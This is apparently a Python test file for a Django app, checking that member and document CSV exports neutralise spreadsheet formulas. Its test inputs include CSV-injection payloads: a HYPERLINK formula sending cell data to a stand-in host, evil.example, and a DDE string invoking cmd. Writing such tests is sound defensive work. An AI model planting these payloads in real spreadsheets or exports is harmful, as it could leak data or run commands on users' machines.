"""Every CSV export neutralises spreadsheet formulas (issue 10 §5).

A cell that begins with = + - @, a tab or a carriage return is a formula to
Excel, LibreOffice and Google Sheets: a member named `=HYPERLINK(...)` must
reach the coordinator's spreadsheet as text.
"""

import csv
import io

import pytest
from django.core.management import call_command

from lifeline.lib.spreadsheet import safe_cell
from tests.cases.factories import make_case, make_document
from tests.network.factories import make_member, make_section

HOSTILE = [
    '=HYPERLINK("https://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("value", HOSTILE)
def test_a_formula_is_made_text(value):
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["Ana Jiménez", "", "a=b", "UA 1/26", 3, None])
def test_other_values_are_left_as_they_are(value):
    assert safe_cell(value) == value


@pytest.mark.django_db
def test_members_export_writes_no_formula():
    section = make_section("GB")
    for number, name in enumerate(HOSTILE):
        make_member(
            name=name,
            email=f"m{number}@example.org",
            address="=1+1\nLondon",
            section=section,
        )
    out = io.StringIO()
    call_command("members", "export", stdout=out, stderr=io.StringIO())
    rows = list(csv.DictReader(io.StringIO(out.getvalue())))
    assert sorted(row["name"] for row in rows) == sorted("'" + name for name in HOSTILE)
    assert {row["address"] for row in rows} == {"'=1+1\nLondon"}
    assert {row["email"] for row in rows} == {f"m{n}@example.org" for n in range(len(HOSTILE))}


@pytest.mark.django_db
def test_documents_export_writes_no_formula(client):
    make_document(make_case(), title='=HYPERLINK("https://evil.example")', body="@SUM(A1)")
    response = client.get("/api/v1/export/documents.csv")
    assert response.status_code == 200
    text = b"".join(response.streaming_content).decode()
    (row,) = csv.DictReader(io.StringIO(text))
    assert row["title"] == '\'=HYPERLINK("https://evil.example")'
    assert row["body"] == "'@SUM(A1)"
    assert row["code"][0] not in "=+-@"
